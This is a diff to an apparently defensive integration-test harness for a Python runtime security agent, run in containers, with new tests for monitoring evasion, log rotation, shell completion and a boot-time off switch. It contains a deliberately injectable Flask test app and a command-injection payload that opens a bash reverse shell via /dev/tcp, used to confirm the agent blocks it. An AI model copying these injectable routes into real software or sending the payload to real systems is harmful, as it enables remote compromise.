@@ -6,7 +6,10 @@ import hashlib
 import json
 import os
 import pathlib
+import platform
+import pty
 import re
+import select
 import signal
 import socket
 import subprocess
@@ -21,7 +24,9 @@ NSPAWN = ["systemd-nspawn", "--quiet", "--hostname=localhost", "--register=no", 
           "--timezone=off", "--console=read-only", "-b", "-D"]
 UNIT = "shop.service"
 APP = """
+import ctypes
 import os
+import subprocess
 import flask
 
 app = flask.Flask("shop")
@@ -33,6 +38,31 @@ def index():
 @app.route("/ping")
 def ping():
     return str(os.system("true " + flask.request.args["host"]))
+
+BARE = [b"/usr/bin/python3", b"-I", b"-S"]
+
+@app.route("/child")
+def child():
+    # A Python that knows nothing of this one, and does what it reads.
+    code = "import os; os.system(%r)" % ("true " + flask.request.args["host"])
+    return subprocess.run(BARE, input=code.encode(), env={}, stdout=subprocess.PIPE, stderr=subprocess.STDOUT).stdout
+
+@app.route("/left")
+def left():
+    # The same past libc, where no preload goes along: its process.
+    argv = (ctypes.c_char_p * 6)(*BARE, b"-c", b"import time; time.sleep(15)", None)
+    child = os.fork()
+    if child == 0:
+        ctypes.CDLL(None).syscall(@EXECVE@, argv[0], argv, (ctypes.c_char_p * 1)(None))
+        os._exit(1)
+    return str(child)
+"""
+EXECVE = {"x86_64": "59", "aarch64": "221"}
+# A unit that itself takes care to have neither environment nor site.
+BARE = "bare.service"
+BARE_SERVICE = """
+[Service]
+ExecStart=/usr/bin/env -i /usr/bin/python3 -I -S -c 'import time; time.sleep(100000)'
 """
 SERVICE = """
 [Unit]
@@ -44,8 +74,17 @@ User=www-data
 [Install]
 WantedBy=multi-user.target
 """
+# A container sees the command line of the kernel it runs on: this is another's.
+CMDLINE_SERVICE = """
+[Unit]
+DefaultDependencies=no
+Before=sysinit.target
+[Service]
+Type=oneshot
+ExecStart=/bin/mount --bind /root/cmdline /proc/cmdline
+"""
 # What an installation may leave: the package manager's own memory, and what any boot writes.
-NOT_COMPARED = re.compile(r"^/(proc|sys|dev|run|tmp|var/tmp|root|var/log|var/cache|var/lib/(apt|dpkg|systemd|dbus|ucf)|"
+NOT_COMPARED = re.compile(r"^/(proc|sys|dev|run|tmp|var/tmp|root|var/log|var/cache|var/lib/(apt|dpkg|systemd|dbus|ucf|logrotate)|"
                           r"srv/shop/__pycache__|etc/(machine-id|\.updated|.*-|.*cache|hostname|mtab|resolv\.conf|subuid|subgid))(/|$)")
 EXPOSURE_MAX = 1.5
 
@@ -64,7 +103,9 @@ class Host:
 
     def boot(self):
         self.log = open(str(self.root) + ".console", "wb")
-        self.process = subprocess.Popen(NSPAWN + [str(self.root)], stdin=subprocess.DEVNULL, stdout=self.log, stderr=self.log)
+        name = "--machine=" + "-".join(self.root.parts[-2:]).replace(".", "-")
+        self.process = subprocess.Popen(NSPAWN + [str(self.root), name], stdin=subprocess.DEVNULL, stdout=self.log,
+                                        stderr=self.log)
         self.wait_for_boot()
 
     def leader(self):
@@ -86,7 +127,13 @@ class Host:
     def reboot(self):
         before = self.leader()
         self.run("systemctl", "reboot", check=False)
-        self.wait_for_boot(other_than=before)
+        wait(lambda: self.process.poll() is not None or self.leader() not in (None, before), "the system goes down", 120)
+        if self.process.poll() is None:
+            self.wait_for_boot(other_than=before)
+        elif self.process.returncode == 133:  # a reboot, left to whoever started nspawn
+            self.boot()
+        else:
+            raise Failed("systemctl reboot: nspawn ends with %d" % self.process.returncode)
 
     def end(self):
         if self.process is not None and self.process.poll() is None:
@@ -97,11 +144,13 @@ class Host:
                 self.process.kill()
                 self.process.wait()
 
+    def inside(self, *command):
+        return ["nsenter", "-t", str(self.leader()), "-m", "-u", "-i", "-p", "-r", "-w", "env", "-i", "TERM=dumb",
+                "PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin", "HOME=/root", "LANG=C.UTF-8",
+                "DEBIAN_FRONTEND=noninteractive"] + list(command)
+
     def run(self, *command, check=True):
-        inside = ["nsenter", "-t", str(self.leader()), "-m", "-u", "-i", "-p", "-r", "-w", "env", "-i",
-                  "PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin", "HOME=/root", "LANG=C.UTF-8",
-                  "DEBIAN_FRONTEND=noninteractive"]
-        done = subprocess.run(inside + list(command), stdin=subprocess.DEVNULL, stdout=subprocess.PIPE,
+        done = subprocess.run(self.inside(*command), stdin=subprocess.DEVNULL, stdout=subprocess.PIPE,
                               stderr=subprocess.STDOUT, timeout=300, universal_newlines=True)
         if check and done.returncode:
             raise Failed("%s: exit status %d\n%s" % (" ".join(command), done.returncode, done.stdout[-3000:]))
@@ -129,14 +178,15 @@ class Host:
         except OSError as error:
             return 0, str(error)
 
-    def attack(self, number):
+    def attack(self, number, way="/ping"):
         """A command injection: a file that says that it worked, then a shell over the network."""
         host = "; touch /srv/shop/data/owned-%d; bash -c 'bash -i >& /dev/tcp/127.0.0.1/9 0>&1'" % number
-        status, _ = self.get("/ping?host=" + urllib.parse.quote(host))
-        return status, self.path("/srv/shop/data/owned-%d" % number).exists()
+        status, said = self.get(way + "?host=" + urllib.parse.quote(host))
+        owned = self.path("/srv/shop/data/owned-%d" % number).exists()
+        return (status, owned) if way == "/ping" else (status, owned, said)
 
-    def alerts(self, number=None, *matches):
-        found = self.journal("-u", UNIT, "PYAUDIT_ACTION=block", *matches)
+    def alerts(self, number=None):
+        found = self.journal("-u", UNIT, "PYAUDIT_ACTION=block")
         return [e for e in found if number is None or "owned-%d;" % number in e["MESSAGE"]]
 
     def files(self):
@@ -170,7 +220,7 @@ def wait(condition, what, seconds=30):
         got = condition()
         if got:
             return got
-        time.sleep(0.1)
+        time.sleep(0.2)
     raise Failed("waited in vain: " + what)
 
 
@@ -241,8 +291,9 @@ def prepare(host):
     data = host.path("/srv/shop/data")
     data.mkdir(parents=True)
     os.chmod(str(data), 0o777)
-    host.path("/srv/shop/shop.py").write_text(APP)
+    host.path("/srv/shop/shop.py").write_text(APP.replace("@EXECVE@", EXECVE[platform.machine()]))
     host.path("/etc/systemd/system/" + UNIT).write_text(SERVICE % host.port)
+    host.path("/etc/systemd/system/" + BARE).write_text(BARE_SERVICE)
     host.path("/var/log/journal").mkdir(parents=True, exist_ok=True)
     host.path("/etc/machine-id").write_text("")
     wants = host.path("/etc/systemd/system/multi-user.target.wants")
@@ -277,6 +328,108 @@ def install(host):
           "from installation to a watched, alerting service: three commands, %.1f s" % seconds)
 
 
+def bare(host):
+    """A Python that is started with -I -S and an empty environment."""
+    status, owned, said = host.attack(4, "/child")
+    check(status == 200 and not owned and "PermissionError" in said, "-I -S, no environment, started by the service: refused")
+    entry = wait(lambda: host.alerts(4), "the alert of the child")[0]
+    check(entry["PYAUDIT_RULE"] == "reverse-shell" and entry["PYAUDIT_UNIT"] == UNIT, "its alert is in the journal of the unit")
+
+    host.run("pyauditctl", "enable", BARE)
+    host.run("systemctl", "start", BARE)
+    program = host.show(BARE, "MainPID")
+
+    def row():
+        rows = [json.loads(line) for line in host.run("pyauditctl", "ps", "--json", check=False).stdout.splitlines()]
+        return [r for r in rows if str(r.get("pid")) == program and r["watched"]]
+    wait(row, "pyauditctl ps to show the Python of " + BARE)
+    check(True, "-I -S, no environment, by `env -i` in ExecStart: watched")
+    host.run("systemctl", "stop", BARE)
+    host.run("pyauditctl", "disable", BARE)
+
+    begun = time.time()
+    status, pid = host.get("/left")
+    check(status == 200, "-I -S, no environment, by the bare system call: it runs")
+    entry = wait(lambda: host.journal("-u", UNIT, "PYAUDIT_EVENT=pyaudit.unwatched"), "the report of %s" % pid)[0]
+    seconds = int(entry["__REALTIME_TIMESTAMP"]) / 1e6 - begun
+    check(entry["PYAUDIT_PID"] == pid and seconds < 2, "it is reported as not watched after %.1f s" % seconds)
+
+
+def rotation(host):
+    host.run("sed", "-i", "s/^#ndjson/ndjson/", "/etc/pyaudit/pyauditd.conf")
+    host.run("systemctl", "restart", "pyauditd")
+    log, rotated = host.path("/var/log/pyaudit/events.ndjson"), host.path("/var/log/pyaudit/events.ndjson.1")
+
+    def has(path, number):
+        return path.exists() and "owned-%d;" % number in path.read_text()
+    for number, path in ((11, log), (12, log)):
+        host.attack(number)
+        wait(lambda: has(log, number), "attack %d in %s" % (number, log.name))
+        if number == 11:
+            host.run("logrotate", "--force", "/etc/logrotate.d/pyauditd")
+    host.run("logrotate", "--debug", "/etc/logrotate.d/pyauditd")
+    info = log.stat()
+    check(has(rotated, 11) and not has(rotated, 12) and not has(log, 11), "logrotate takes the file, the daemon goes on in a new one")
+    check(info.st_uid != 0 and info.st_mode & 0o027 == 0, "the new file is the daemon's, and not for everyone")
+    for path in (log, rotated):
+        for line in path.read_text().splitlines():
+            json.loads(line)
+    host.run("sed", "-i", "s/^ndjson/#ndjson/", "/etc/pyaudit/pyauditd.conf")
+    host.run("systemctl", "restart", "pyauditd")
+
+
+def completion(host):
+    """What a person sees who types in zsh and presses the tab key."""
+    pid, terminal = pty.fork()
+    if pid == 0:
+        command = host.inside("zsh", "-f", "-i")
+        os.execvp(command[0], command)
+    seen = b""
+
+    def shows(text):
+        nonlocal seen
+        while select.select([terminal], [], [], 0)[0]:
+            seen += os.read(terminal, 65536)
+        return text.encode() in seen
+    try:
+        os.write(terminal, b"autoload -U compinit; compinit -u -D; unsetopt beep; echo rea''dy\n")
+        wait(lambda: shows("ready\r\n"), "zsh")
+        for typed, wanted in (("pyauditctl relo", "pyauditctl reload "), ("pyauditctl enable --mode obs", "--mode observe "),
+                              ("pyauditctl disable sho", "disable " + UNIT), ("pyauditctl rules che", "rules check ")):
+            seen = b""
+            os.write(terminal, b"\x15" + typed.encode() + b"\t")
+            try:
+                wait(lambda: shows(wanted), "completion of '%s'" % typed)
+            except Failed as failure:
+                raise Failed("%s: %r" % (failure, seen))
+        check(True, "zsh completes commands, options, values and units")
+    finally:
+        os.kill(pid, signal.SIGKILL)
+        os.waitpid(pid, 0)
+        os.close(terminal)
+
+
+def boot_parameter(host):
+    """pyaudit=off on the kernel's command line: what a host has that does not come up with the agent."""
+    host.end()
+    cmdline, unit = host.path("/root/cmdline"), host.path("/etc/systemd/system/cmdline.service")
+    cmdline.write_text("BOOT_IMAGE=/vmlinuz root=/dev/vda ro pyaudit=off quiet\n")
+    unit.write_text(CMDLINE_SERVICE)
+    wants = host.path("/etc/systemd/system/sysinit.target.wants/cmdline.service")
+    wants.symlink_to("/etc/systemd/system/cmdline.service")
+    host.boot()
+    serves(host)
+    check(host.attack(22) == (200, True), "booted with pyaudit=off: the agent is in no program, the service runs")
+    check("pyaudit=off" in host.run("pyauditctl", "ps").stdout, "pyauditctl ps says why")
+    host.path("/srv/shop/data/owned-22").unlink()
+    host.end()
+    for path in (cmdline, unit, wants):
+        path.unlink()
+    host.boot()
+    serves(host)
+    refused(host, 23, "booted without it")
+
+
 def upgrade(host):
     main_pid, daemon = host.show(UNIT, "MainPID"), host.show("pyauditd", "MainPID")
     with Traffic(host, 1000) as traffic:
@@ -284,6 +437,9 @@ def upgrade(host):
     check(host.show("pyauditd", "MainPID") != daemon, "the upgrade starts the new daemon")
     check(host.show(UNIT, "MainPID") == main_pid, "the upgrade does not start the service anew")
     traffic.check("upgrade")
+
+
+def restart(host):
     with Traffic(host, 3000) as traffic:
         host.run("systemctl", "restart", "pyauditd")
         host.run("systemctl", "restart", "pyaudit-journal.service")
@@ -310,14 +466,15 @@ def watchdog(host):
              "printf '[Service]\\nWatchdogSec=3\\n' >/run/systemd/system/pyauditd.service.d/watchdog.conf; "
              "systemctl daemon-reload; systemctl restart pyauditd")
     frozen = host.show("pyauditd", "MainPID")
-    host.run("kill", "-STOP", frozen)
+    host.run("systemctl", "kill", "--signal=STOP", "pyauditd")
     wait(lambda: host.show("pyauditd", "MainPID") not in (frozen, "0") and
          host.show("pyauditd", "ActiveState") == "active", "the watchdog replaces a frozen daemon", 60)
     check(not dropin.exists(), "a frozen daemon is replaced by the watchdog")
     host.run("sh", "-c", "rm -r /run/systemd/system/pyauditd.service.d; systemctl daemon-reload")
 
 
-def purge(host, before):
+def purge(host):
+    before = host.before
     host.run("pyauditctl", "enable", "--restart", UNIT)
     serves(host)
     refused(host, 31, "enabled again")
@@ -338,50 +495,68 @@ def purge(host, before):
     check(not differ, "after the purge the file system is as it was (%d files compared)" % len(after))
 
 
-def story(host):
+def before(host):
     prepare(host)
     host.boot()
     serves(host)
     status, owned = host.attack(1)
     check(status == 200 and owned, "before: the service can be attacked")
-    before = {name: entry for name, entry in host.files().items() if not name.startswith("/srv/shop/data/")}
-    install(host)
+    host.before = {name: entry for name, entry in host.files().items() if not name.startswith("/srv/shop/data/")}
+
+
+def enabled(host):
     refused(host, 3, "enabled")
     check(host.journal("-u", "pyauditd", "PYAUDIT_EVENT=daemon.start"), "journalctl -u pyauditd tells of its start")
     check("was denied an act" in host.run("journalctl", "-x", "--no-pager", "PYAUDIT_RULE=reverse-shell").stdout,
           "journalctl -x explains the alert")
-    exposures(host)
-    upgrade(host)
-    without_journald(host)
-    watchdog(host)
+
+
+def rebooted(host):
     host.reboot()
     serves(host)
     refused(host, 21, "after a reboot")
+
+
+def disabled(host):
     host.run("pyauditctl", "disable", UNIT)
     host.run("systemctl", "restart", UNIT)
     serves(host)
     status, owned = host.attack(30)
     check(status == 200 and owned, "disabled: nothing is refused")
     check(not list(host.path("/etc/systemd/system").glob("shop.service.d*")), "disabled: no drop-in is left")
-    purge(host, before)
+
+
+# What the next ones stand on ends the story; of the others each has its say.
+STORY = (before, install, enabled)
+CHAPTERS = (exposures, bare, completion, upgrade, restart, rotation, without_journald, watchdog, rebooted, boot_parameter,
+            disabled, purge)
+
+
+def tell_of(host):
+    for command in (["systemctl", "--failed", "--no-pager"], ["systemctl", "status", "pyauditd", UNIT, "--no-pager", "-l"],
+                    ["journalctl", "-n", "80", "--no-pager"]):
+        try:
+            print(host.run(*command, check=False).stdout)
+        except (OSError, ValueError, subprocess.SubprocessError):
+            pass
 
 
 def main():
     host = Host(sys.argv[1])
+    failed = False
     try:
-        story(host)
-    except Failed as failure:
-        print("NOT OK: %s" % failure)
-        for command in (["systemctl", "--failed", "--no-pager"], ["systemctl", "status", "pyauditd", UNIT, "--no-pager", "-l"],
-                        ["journalctl", "-n", "80", "--no-pager"]):
+        for chapter in STORY + CHAPTERS:
             try:
-                print(host.run(*command, check=False).stdout)
-            except (OSError, ValueError, subprocess.SubprocessError):
-                pass
-        return 1
+                chapter(host)
+            except Failed as failure:
+                print("NOT OK: %s: %s" % (chapter.__name__, failure))
+                tell_of(host)
+                failed = True
+                if chapter in STORY:
+                    break
     finally:
         host.end()
-    return 0
+    return 1 if failed else 0
 
 
 if __name__ == "__main__":
